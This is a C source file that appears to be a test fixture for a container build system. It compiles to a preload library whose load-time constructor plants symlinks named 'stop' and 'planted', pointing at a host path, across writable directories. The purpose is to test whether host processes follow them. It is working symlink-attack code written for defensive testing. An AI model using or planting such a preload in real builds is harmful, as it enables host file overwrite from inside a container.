//go:build ignore

/* A hostile preload for tests (testbase.PlantSource): every process that
 * loads it plants symbolic links named "stop" and "planted", pointing at
 * $PLANT_TARGET (a path on the host that runs the build), in every
 * directory it can write: the well-known writable places, the working
 * directory, and two levels below each. A host process that writes a file
 * of those names where the container can write follows the link. */
#define _GNU_SOURCE
#include <dirent.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void plant_in(const char *dir, const char *target) {
	static const char *names[] = {"stop", "planted"};
	char p[PATH_MAX];
	for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
		snprintf(p, sizeof p, "%s/%s", dir, names[i]);
		symlink(target, p);
	}
}

static void walk(const char *dir, int depth, const char *target) {
	plant_in(dir, target);
	if (depth == 0)
		return;
	DIR *d = opendir(dir);
	if (!d)
		return;
	struct dirent *e;
	while ((e = readdir(d))) {
		if (e->d_type != DT_DIR || !strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") ||
		    !strcmp(e->d_name, "proc") || !strcmp(e->d_name, "sys"))
			continue;
		char sub[PATH_MAX];
		snprintf(sub, sizeof sub, "%s/%s", strcmp(dir, "/") ? dir : "", e->d_name);
		walk(sub, depth - 1, target);
	}
	closedir(d);
}

__attribute__((constructor)) static void plant(void) {
	const char *target = getenv("PLANT_TARGET");
	if (!target)
		return;
	static const char *dirs[] = {"/run/sqlite-graft", "/run", "/tmp", "/var/tmp", "/dev/shm", "/"};
	for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++)
		walk(dirs[i], 2, target);
	char cwd[PATH_MAX];
	if (getcwd(cwd, sizeof cwd))
		walk(cwd, 2, target);
}
